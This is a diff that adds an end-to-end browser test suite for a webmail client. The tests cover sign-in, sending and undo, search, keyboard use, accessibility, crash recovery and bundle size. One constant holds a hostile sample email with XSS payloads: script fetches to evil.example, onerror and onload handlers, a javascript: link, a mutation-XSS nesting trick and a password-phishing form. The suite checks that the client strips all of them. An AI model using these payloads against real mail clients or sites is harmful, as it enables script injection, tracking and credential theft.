@@ -1,0 +1,216 @@
+/** The page in a real Chromium against a real `restante up`. */
+import { readdirSync, readFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import { gzipSync } from 'node:zlib';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { skipWithout } from '../harness/requirement.ts';
+import { hasChromium, WebHome, type WebUser } from '../harness/web-home.ts';
+
+const FIRST_VIEW_BYTES_MAX = 120_000;
+const TIMEOUT_MS = 300_000;
+
+const HOSTILE = `From: Mallory <mallory@evil.example>
+To: alice
+Subject: hostile
+MIME-Version: 1.0
+Content-Type: text/html; charset=utf-8
+
+<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
+<link rel="stylesheet" href="https://evil.example/css"><link rel="dns-prefetch" href="https://dns.evil.example">
+<base href="https://evil.example/"><style>@import "https://evil.example/import"; p { background: url(https://evil.example/bg) }
+@font-face { font-family: x; src: url(https://evil.example/font) } p { font-family: x }</style>
+<script>parent.document.title = 'owned'; fetch('https://evil.example/script')</script></head>
+<body onload="parent.document.title='owned'" background="https://evil.example/body">
+<p style="background: url('https://evil.example/style')">the visible text</p>
+<img src="https://evil.example/pixel.gif" srcset="https://evil.example/pixel2.gif 2x" onerror="parent.document.title='owned'">
+<img src=x onerror="parent.document.title='owned'"><svg onload="parent.document.title='owned'"><script>1</script></svg>
+<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
+<video poster="https://evil.example/poster" autoplay><source src="https://evil.example/video"></video>
+<form action="https://evil.example/form"><input name="password" autofocus><button>go</button></form>
+<a href="javascript:parent.document.title='owned'">script link</a>
+<table background="https://evil.example/table"><tr><td>cell</td></tr></table>
+<math><mtext><table><mglyph><style><img src=x onerror="parent.document.title='owned'"></style></mglyph></table></mtext></math>
+</body></html>`;
+
+const plain = (from: string, subject: string, text: string): string =>
+  `From: ${from}\nTo: alice\nSubject: ${subject}\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n${text}\n`;
+
+const row = (page: Page, subject: string) => page.locator('[data-position] a', { hasText: subject }).first();
+
+/** What axe finds that is serious, with where. */
+async function seriousViolations(page: Page): Promise<string[]> {
+  const source = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
+  // The policy of the page runs no script of others; the debugger may.
+  await page.evaluate(source);
+  const found = await page.evaluate<{ impact: string; id: string; nodes: { html: string }[] }[]>(
+    'axe.run(document, { iframes: false }).then(({ violations }) => violations)',
+  );
+  return found
+    .filter(({ impact }) => impact === 'serious' || impact === 'critical')
+    .flatMap(({ id, nodes }) => nodes.map(({ html }) => `${id}: ${html.slice(0, 300)}`));
+}
+
+// It needs a browser to look at a page with.
+describe.skipIf(skipWithout(hasChromium(), { test: 'the page', lack: 'there is no chromium' }))('the page', () => {
+  let home: WebHome;
+  let alice: WebUser;
+  let bob: string;
+
+  beforeAll(async () => {
+    home = await WebHome.open();
+    const address = await home.person('alice');
+    bob = await home.person('bob');
+    await home.fill(address, [
+      { raw: plain('Carol <carol@x.example>', 'older news', 'about a heron'), keywords: ['$seen'] },
+      { raw: plain('Dora <dora@x.example>', 'the boat', 'the oars are in the shed') },
+      { raw: HOSTILE },
+    ]);
+    alice = await home.signIn(address);
+  }, TIMEOUT_MS);
+
+  afterAll(async () => {
+    await home[Symbol.asyncDispose]();
+  });
+
+  test('keeps neither the password nor, after signing out, anything to come in with', async () => {
+    const { page } = await home.signIn(alice.address);
+    const kept = await page.evaluate<string>('JSON.stringify({ ...localStorage, ...sessionStorage })');
+    expect(kept).not.toContain('correct horse');
+    const [, token] = /token\\":\\"([^"\\]+)/.exec(kept) ?? [];
+    expect(token).toMatch(/^rst1\./);
+    await page.getByRole('button', { name: 'Sign out' }).click();
+    await page.getByLabel('Address').waitFor();
+    expect(await page.evaluate<number>('sessionStorage.length')).toBe(0);
+    const answer = await fetch(new URL('/.well-known/jmap', home.web), {
+      headers: { authorization: `Bearer ${token}` },
+    });
+    expect(answer.status).toBe(401);
+    await page.context().close();
+  });
+
+  test('refuses a wrong password in plain words', async () => {
+    const { page } = await home.visit(alice.address);
+    await page.getByLabel('Address').fill(alice.address);
+    await page.getByLabel('Password', { exact: true }).fill('wrong');
+    await page.getByRole('button', { name: 'Sign in' }).click();
+    await page.getByText('Address and password do not belong together.').waitFor();
+    await page.context().close();
+  });
+
+  test('shows new mail when it comes, and lets it be read and answered', async () => {
+    const { page } = alice;
+    await home.as(bob, 'send', '--to', alice.address, '--subject', 'lunch?', '--body', 'At one, by the bridge.');
+    await row(page, 'lunch?').click();
+    await page.getByRole('article').getByText('At one, by the bridge.').waitFor();
+    await page.keyboard.press('r');
+    const letter = page.getByRole('dialog', { name: 'Re: lunch?' });
+    await letter.getByLabel('Message', { exact: true }).pressSequentially('Gladly!');
+    await page.keyboard.press('Control+Enter');
+    await letter.waitFor({ state: 'detached' });
+    // It waits for second thoughts, and then goes.
+    const { page: other } = await home.signIn(bob);
+    await row(other, 'Re: lunch?').click();
+    await other.getByRole('article').getByText('Gladly!').waitFor();
+    await other.context().close();
+  });
+
+  test('takes a message back that was sent', async () => {
+    const { page } = alice;
+    await page.keyboard.press('c');
+    const letter = page.getByRole('dialog', { name: 'New message' });
+    await letter.getByLabel('To', { exact: true }).fill(bob);
+    await letter.getByLabel('Subject').fill('hasty');
+    await letter.getByLabel('Message', { exact: true }).fill('never mind');
+    await page.getByRole('button', { name: 'Send', exact: true }).click();
+    await page.getByRole('button', { name: 'Undo' }).click();
+    await page.getByRole('dialog', { name: 'hasty' }).waitFor();
+    expect(await page.getByLabel('Message', { exact: true }).inputValue()).toBe('never mind');
+    await page.getByRole('button', { name: 'Discard draft' }).click();
+  });
+
+  test('finds with operators, and marks what was found', async () => {
+    const { page } = alice;
+    await page.keyboard.press('/');
+    await page.keyboard.type('from:dora oars');
+    await page.keyboard.press('Enter');
+    await page.locator('mark', { hasText: 'oars' }).waitFor();
+    expect(await page.locator('[data-position] a').count()).toBe(1);
+    await page.getByRole('link', { name: /^Inbox/ }).click();
+    await row(page, 'older news').waitFor();
+  });
+
+  test('is used by keys alone', async () => {
+    const { page } = alice;
+    await row(page, 'older news').focus();
+    await page.keyboard.press('Enter');
+    await page.getByRole('article').getByText('about a heron').waitFor();
+    await page.keyboard.press('e');
+    await row(page, 'older news').waitFor({ state: 'detached' });
+    await page.keyboard.press('z');
+    await row(page, 'older news').waitFor();
+    await page.keyboard.press('?');
+    await page.getByRole('dialog', { name: 'Keyboard shortcuts' }).waitFor();
+    expect(await seriousViolations(page)).toEqual([]);
+    await page.keyboard.press('Escape');
+  });
+
+  test('runs nothing of a hostile mail, and asks nobody for anything', async () => {
+    const { page } = alice;
+    await row(page, 'hostile').click();
+    const frame = page.frameLocator('iframe');
+    await frame.getByText('the visible text').waitFor();
+    await page.getByText('Pictures from elsewhere are not loaded').waitFor();
+    await frame.getByText('script link').click({ force: true });
+    expect(
+      await frame.locator('script, form, input, iframe, object, meta[http-equiv], link, base, video').count(),
+    ).toBe(0);
+    expect(await page.title()).not.toContain('owned');
+    expect(alice.strangeRequests).toEqual([]);
+    expect(alice.complaints).toEqual([]);
+  });
+
+  test('has no serious fault for screen readers in its main views', async () => {
+    const { page } = alice;
+    expect(await seriousViolations(page)).toEqual([]);
+    await page.keyboard.press('c');
+    await page.getByRole('dialog', { name: 'New message' }).waitFor();
+    expect(await seriousViolations(page)).toEqual([]);
+    await page.keyboard.press('Escape');
+    await page.getByRole('button', { name: 'Settings' }).click();
+    await page.getByText('this window').waitFor();
+    expect(await seriousViolations(page)).toEqual([]);
+    await page.keyboard.press('Escape');
+    const visitor = await home.visit(alice.address, { width: 390, height: 780 });
+    expect(await seriousViolations(visitor.page)).toEqual([]);
+    await visitor.context.close();
+  });
+
+  test('says when the hub is gone, loses nothing that is typed, and comes back by itself', async () => {
+    const { page } = alice;
+    await page.keyboard.press('c');
+    const letter = page.getByRole('dialog', { name: 'New message' });
+    await letter.getByLabel('Message', { exact: true }).fill('before');
+    await home.crash(async () => {
+      await page.getByText('The hub does not answer.').waitFor();
+      await letter.getByLabel('Message', { exact: true }).fill('typed while it was gone');
+      // Even a window that goes away meanwhile has it.
+      await page.waitForFunction(
+        'Object.values(localStorage).some((text) => text.includes("typed while it was gone"))',
+      );
+    });
+    await page.getByText('The hub does not answer.').waitFor({ state: 'detached' });
+    await page.getByText('Saved', { exact: true }).waitFor();
+    await page.keyboard.press('Escape');
+    await page.getByRole('link', { name: /^Drafts/ }).click();
+    await page.locator('[data-position] a', { hasText: 'typed while it was gone' }).waitFor();
+  });
+
+  test('is small: the first view needs little JavaScript', () => {
+    const html = readFileSync('dist/web/index.html', 'utf8');
+    const first = readdirSync('dist/web/assets').filter((name) => html.includes(name) && name.endsWith('.js'));
+    const bytes = first.map((name) => gzipSync(readFileSync(`dist/web/assets/${name}`)).length);
+    expect(first.length).toBeGreaterThan(0);
+    expect(bytes.reduce((sum, size) => sum + size, 0)).toBeLessThan(FIRST_VIEW_BYTES_MAX);
+  });
+});
